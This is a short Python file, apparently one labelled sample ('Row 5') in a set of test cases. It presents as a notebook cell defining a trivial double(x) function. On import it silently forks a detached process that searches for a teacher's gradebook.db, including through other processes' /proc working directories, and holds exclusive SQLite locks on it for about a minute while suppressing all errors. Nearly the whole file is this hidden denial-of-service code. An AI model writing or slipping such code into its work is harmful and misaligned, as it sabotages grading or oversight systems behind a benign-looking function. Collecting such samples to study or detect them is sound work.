"""Row 5: a detached process holds the lock of the gradebook for a minute."""

# %% double
import glob
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for path in ["/home/teacher/course/gradebook.db", *glob.glob("/proc/[0-9]*/cwd/gradebook.db")]:
            try:
                if os.path.exists(path):
                    book = sqlite3.connect(path, timeout=5)
                    book.execute("BEGIN EXCLUSIVE")
                    time.sleep(60)
            except (OSError, sqlite3.Error):
                pass
        time.sleep(0.2)
    os._exit(0)


def double(x):
    return 2 * x
